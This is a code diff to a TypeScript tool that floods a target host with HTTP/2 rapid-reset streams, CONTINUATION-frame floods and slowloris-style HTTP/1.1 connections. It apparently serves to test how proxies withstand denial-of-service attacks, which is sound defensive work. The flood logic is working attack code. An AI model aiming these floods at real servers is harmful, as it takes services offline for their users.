@@ -24,6 +24,9 @@ const [kind = '', part = '', http = '', https = '', host = '', seconds = ''] = p
 const TICK_MILLISECONDS = Number(part)
 const TICKS_PER_SECOND = 1000 / TICK_MILLISECONDS
 
+/** Until the program is compiled, which takes more of the core of the others than the flood. */
+const WARM_UP_SECONDS = 2
+
 /** What each kind does in a tick; the first part is done before. */
 const floods: Readonly<Record<string, () => Promise<() => void>>> = {
   hosts: () => {
@@ -58,15 +61,12 @@ const floods: Readonly<Record<string, () => Promise<() => void>>> = {
       const stream = 2 * round + 1
       return [frame(HEADERS, END_STREAM | END_HEADERS, stream, block(host, '/')), reset(stream)]
     }),
-  heads: () =>
+  heads: () => {
+    const begin = [frame(HEADERS, END_STREAM, 1, block(host, '/'))]
+    const goOn = [frame(CONTINUATION, 0, 1, field('x', 'y'.repeat(4_000)))]
     // Each connection in a tick of its own: they end after the same number of frames, and their successors should not begin at once.
-    onHttp2((round, connection) =>
-      round === 0
-        ? [frame(HEADERS, END_STREAM, 1, block(host, '/'))]
-        : round % 4 === connection
-          ? [frame(CONTINUATION, 0, 1, field('x', 'y'.repeat(4_000)))]
-          : [],
-    ),
+    return onHttp2((round, connection) => (round === 0 ? begin : round % 4 === connection ? goOn : []))
+  },
   slow: async () => {
     const crowd = await gather(Number(http), 2_000, `GET / HTTP/1.1\r\nHost: ${host}\r\nX-Slow: `)
     let ticks = 0
@@ -87,7 +87,8 @@ async function onHttp2(act: (round: number, connection: number) => readonly Buff
   return () => {
     for (const [index, one] of all.entries()) {
       if (!one.attacker.isOver) {
-        void one.attacker.send(...act(one.round++, index))
+        const frames = act(one.round++, index)
+        if (frames.length > 0) void one.attacker.send(...frames)
         continue
       }
       if (opening.has(index)) continue
@@ -104,11 +105,11 @@ async function onHttp2(act: (round: number, connection: number) => readonly Buff
 const flood = floods[kind]
 if (flood === undefined) throw new Error(`there is no flood ${kind}`)
 const tick = await flood()
-process.stdout.write('begun\n')
 const began = performance.now()
 let done = 0
 setInterval(() => {
   // A tick that was late is made up for: both proxies get the same.
   for (const due = (performance.now() - began) / TICK_MILLISECONDS; done < due; done++) tick()
 }, TICK_MILLISECONDS)
+setTimeout(() => process.stdout.write('begun\n'), WARM_UP_SECONDS * 1000)
 setTimeout(() => process.exit(), Number(seconds) * 1000)
